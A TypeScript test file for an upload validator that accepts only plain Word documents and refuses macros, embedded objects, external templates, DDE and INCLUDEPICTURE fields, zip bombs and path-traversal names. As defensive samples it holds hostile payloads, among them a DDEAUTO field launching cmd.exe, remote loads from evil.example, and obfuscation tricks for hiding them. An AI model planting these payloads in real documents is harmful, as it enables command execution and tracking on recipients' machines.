import { randomBytes } from 'node:crypto'
import { readFile } from 'node:fs/promises'
import { deflateRawSync } from 'node:zlib'
import type { Text } from '@jadara/contract/core/text'
import { fileTexts } from '@jadara/contract/files/files'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { assertHarmlessWordDocument } from './plain-word.ts'
import { openTestFileServices, type TestFileServices, writeTemporary } from './samples.testing.ts'

/** Only Word documents that neither run nor load anything are accepted (specification NOTE-4). */

let bench: TestFileServices
beforeAll(async () => {
  bench = await openTestFileServices()
})
afterAll(() => bench.end())

const plainType = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'
const typesOf = (type: string, more = '') =>
  `<Types><Override PartName="/word/document.xml" ContentType="${type}"/>${more}</Types>`
const types = '[Content_Types].xml'
type Part = readonly [name: string, content: string | Buffer]
const plain: readonly Part[] = [
  [types, typesOf(plainType)],
  ['word/document.xml', '<w:document/>'],
]
const { onlyWord, wordWithMore, wordTooLarge } = fileTexts

/** The reason for a refusal; undefined for an accepted document. */
async function refusalOf(bytes: Buffer): Promise<Text | undefined> {
  const path = await writeTemporary(bench.files, bytes)
  return assertHarmlessWordDocument(path).then(
    () => undefined,
    (error) => {
      expect(error).toMatchObject({ status: 415, fields: { file: error.messages[0] } })
      return error.messages[0]
    },
  )
}
const refusal = (...parts: readonly Part[]) => refusalOf(zipOf(parts))

const relations = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const relation = (type: string, mode = 'External', target = 'https://evil.example/x') =>
  `<Relationships><Relationship Id="r1" Type="${relations}/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`
const settings = 'word/_rels/settings.xml.rels'

it('a plain document is one', async () => {
  expect(await refusal(...plain)).toBe(undefined)
  expect(await refusal(...plain, ['docProps/app.xml', 'vbaProject'], ['word/', ''], ['word/media/empty.png', ''])).toBe(undefined)
  expect(await refusal(...plain, ['word/embeddings/Sheet1.xlsx', 'x'], ['word/embeddings/a.PNG', 'x'])).toBe(undefined)
  expect(await refusal(...plain, ['word/_rels/document.xml.rels', relation('hyperlink')])).toBe(undefined)
  expect(await refusal(...plain, [settings, relation('attachedTemplate', 'Internal')])).toBe(undefined)
})

it.each([
  'word/vbaProject.bin',
  'WORD/VBAPROJECT.BIN',
  'word/vbaproject.bin',
  'macros/vbaProject2.bin',
  'vbaProjectSignature.bin',
  'word/vbaData.xml',
])('macros called %s are found', async (name) => {
  expect(await refusal(...plain, [name, 'x'])).toEqual(wordWithMore)
})

it.each([
  ['a document', typesOf('application/vnd.ms-word.document.macroEnabled.main+xml'), wordWithMore],
  ['a template', typesOf('application/vnd.ms-word.template.macroEnabledTemplate.main+xml'), wordWithMore],
  [
    'another part',
    typesOf(plainType, '<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.VBAPROJECT"/>'),
    wordWithMore,
  ],
  [
    'references',
    typesOf(plainType, '<Default Extension="bin" ContentType="application/vnd.ms-office.&#118;baProject"/>'),
    wordWithMore,
  ],
  ['nothing', typesOf('text/plain'), onlyWord],
  ['entities', `<!DOCTYPE x [<!ENTITY v "vba">]>${typesOf(plainType)}`, onlyWord],
  ['another encoding', Buffer.from(typesOf(plainType), 'utf16le'), onlyWord],
  ['too much', typesOf(plainType, ' '.repeat(2_000_000)), onlyWord],
] as const)('macros by the types of %s are found', async (_, content, message) => {
  expect(await refusal([types, content], ['word/document.xml', ''])).toEqual(message)
  expect(await refusal(...plain, ['[CONTENT_TYPES].XML', content])).toEqual(onlyWord)
})

describe('what would run or load something is refused:', () => {
  it.each([
    'word/embeddings/oleObject1.bin',
    'word/embeddings/setup.exe',
    'word/Embeddings/x',
    'word/embeddings/x.docm',
    'word/activeX/activeX1.xml',
    'word/ACTIVEX/activeX1.bin',
    'run.cmd',
  ])('%s', async (name) => {
    expect(await refusal(...plain, [name, 'x'])).toEqual(wordWithMore)
  })

  it.each([
    [settings, relation('attachedTemplate')],
    [settings, relation('attachedTemplate', 'EXTERNAL')],
    [settings, relation('attached&#84;emplate', '&#x45;xternal', 'a>b')],
    ['word/_rels/other.xml.RELS', relation('attachedTemplate').replaceAll('"', "'").replaceAll('=', ' = ')],
    ['word/_rels/document.xml.rels', relation('oleObject', 'Internal')],
    ['word/_rels/document.xml.rels', relation('frame')],
    // Another document that is inserted on opening.
    ['word/_rels/document.xml.rels', relation('aFChunk', 'Internal')],
    ['word/_rels/document.xml.rels', relation('subDocument', 'Internal')],
    ['word/_rels/document.xml.rels', relation('vbaProject', 'Internal', 'picture.png')],
    ['word/_rels/document.xml.rels', relation('image')],
  ])('%s with %s', async (name, content) => {
    expect(await refusal(...plain, [name, content])).toEqual(wordWithMore)
  })
})

const begin = '<w:fldChar w:fldCharType="begin"/>'
const end = '<w:fldChar w:fldCharType="end"/>'
const separate = '<w:fldChar w:fldCharType="separate"/>'
const instruction = (...words: string[]) =>
  words.map((word) => `<w:r><w:instrText xml:space="preserve">${word}</w:instrText></w:r>`).join('')
const document = (body: string | Buffer): readonly Part[] => [
  [types, typesOf(plainType)],
  ['word/document.xml', body],
]

describe('a field that loads something is refused:', () => {
  it.each([
    ['DDEAUTO', begin + instruction('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"') + end],
    ['DDE in pieces', begin + instruction('D', 'D', 'E cmd') + separate + end],
    ['DDE by references', begin + instruction('&#68;DE cmd') + end],
    ['a simple one', '<w:fldSimple w:instr=" DDE cmd "/>'],
    ['another prefix', '<x:fldSimple x:instr=\'INCLUDEPICTURE "http://evil.example/x.png"\'/>'],
    ['INCLUDEPICTURE', begin + instruction(' INCLUDEPICTURE "http://evil.example/x.png" ') + end],
    ['INCLUDETEXT', begin + instruction(' INCLUDETEXT "//evil.example/x" ') + end],
    ['a name made by another field', begin + begin + instruction('QUOTE 68 68 69') + end + instruction(' cmd') + end],
    ['a field that never ends', begin + instruction('PAGE')],
    ['a comment within', `${begin}<w:instrText>D<!-- x -->DE cmd</w:instrText>${end}`],
    ['a picture of VML', '<v:imagedata src="https://evil.example/x.png"/>'],
  ])('%s', async (_, body) => {
    expect(await refusal(...document(`<w:document>${body}</w:document>`))).toEqual(wordWithMore)
    expect(await refusal(...plain, ['word/footer.bin', ` <w:ftr>${body}</w:ftr>`])).toEqual(wordWithMore)
  })

  it.each([
    ['CDATA', `<w:document>${begin}<w:instrText><![CDATA[DDE cmd]]></w:instrText>${end}</w:document>`],
    ['another encoding', Buffer.from(`\uFEFF<w:document>${begin}${instruction('DDE cmd')}${end}</w:document>`, 'utf16le')],
  ])('hidden by %s', async (_, body) => {
    expect(await refusal(...document(body))).toEqual(onlyWord)
  })

  it('page numbers, dates and links are kept', async () => {
    const body = ['PAGE', ' NUMPAGES ', 'DATE \\@ "d MMMM yyyy"', 'HYPERLINK "https://award.example/"', '= 1 + 2'].map(
      (words) => begin + instruction(words) + separate + end,
    )
    expect(await refusal(...document(`<w:document>${body.join('')}<w:fldSimple w:instr=" PAGE "/></w:document>`))).toBe(undefined)
  })
})

it.each(['en', 'ar'])('the shipped template is a plain document (%s)', async (language) => {
  const bytes = await readFile(new URL(`../../assets/concept-note-template.${language}.docx`, import.meta.url))
  expect(await refusalOf(bytes)).toBe(undefined)
})

describe('abuse 36: what unpacks to too much is refused:', () => {
  it('by what it says', async () => {
    const says = (...sizes: number[]) =>
      refusalOf(zipOf([...plain, ...sizes.map((_, at): Part => [`word/m${at}`, 'x'])], { says: [0, 0, ...sizes] }))
    expect(await says(104_857_600)).toEqual(wordTooLarge)
    expect(await says(52_428_800, 52_428_800)).toEqual(wordTooLarge)
    expect(await says(0xffffffff)).toEqual(wordTooLarge)
  })

  it('by what it is, though it says less', async () => {
    const zeros = Buffer.alloc(5_000_000)
    expect(await refusal(...plain, ['word/m', zeros])).toBe(undefined)
    expect(await refusalOf(zipOf([...plain, ['word/m', zeros]], { says: [0, 0, 1000] }))).toEqual(onlyWord)
  })

  it('a thousand times its size', async () => {
    expect(await refusal(...plain, ['word/m', Buffer.alloc(12_000_000)])).toEqual(wordTooLarge)
    expect(await refusal(...plain, ['word/m', Buffer.alloc(12_000_000)], ['word/media/a.png', randomBytes(100_000)])).toBe(
      undefined,
    )
  })

  it('more than 2,000 entries', async () => {
    const more = (count: number) => Array.from({ length: count }, (_, at): Part => [`word/${at}.xml`, ''])
    expect(await refusal(...plain, ...more(1998))).toBe(undefined)
    expect(await refusal(...plain, ...more(1999))).toEqual(wordTooLarge)
  })
})

it.each(['../x', 'word/../../x', '/etc/x', 'C:x', 'a\\b', 'word/./x', 'a\0b'])('a part called %j is refused', async (name) => {
  expect(await refusal(...plain, [name, 'x'])).toEqual(onlyWord)
})

it('what is no document is none', async () => {
  expect(await refusal(...plain.slice(0, 1))).toEqual(onlyWord)
  expect(await refusal(...plain.slice(1))).toEqual(onlyWord)
  expect(await refusal(...plain, ['WORD/document.xml', ''])).toEqual(onlyWord)
  expect(await refusalOf(zipOf(plain).subarray(0, -40))).toEqual(onlyWord)
  expect(await refusalOf(Buffer.concat([zipOf(plain), Buffer.from('x')]))).toEqual(onlyWord)
  expect(await refusalOf(Buffer.of())).toEqual(onlyWord)
})

/** `says`: the sizes that the central directory declares; 0 for the real size. */
function zipOf(parts: readonly Part[], { says = [] }: { says?: readonly number[] } = {}): Buffer {
  const [bytes, list]: [Buffer[], Buffer[]] = [[], []]
  let start = 0
  for (const [index, [name, content]] of parts.entries()) {
    const packed = deflateRawSync(content)
    const head = Buffer.alloc(30)
    head.writeUInt32LE(0x04034b50, 0)
    head.writeUInt16LE(8, 8)
    head.writeUInt32LE(packed.length, 18)
    head.writeUInt16LE(name.length, 26)
    const entry = Buffer.alloc(46)
    entry.writeUInt32LE(0x02014b50, 0)
    entry.writeUInt16LE(8, 10)
    entry.writeUInt32LE(packed.length, 20)
    entry.writeUInt32LE(says[index] || Buffer.byteLength(content), 24)
    entry.writeUInt16LE(name.length, 28)
    entry.writeUInt32LE(start, 42)
    bytes.push(head, Buffer.from(name), packed)
    list.push(entry, Buffer.from(name))
    start += head.length + name.length + packed.length
  }
  const directory = Buffer.concat(list)
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(parts.length, 10)
  end.writeUInt32LE(directory.length, 12)
  end.writeUInt32LE(start, 16)
  return Buffer.concat([...bytes, directory, end])
}
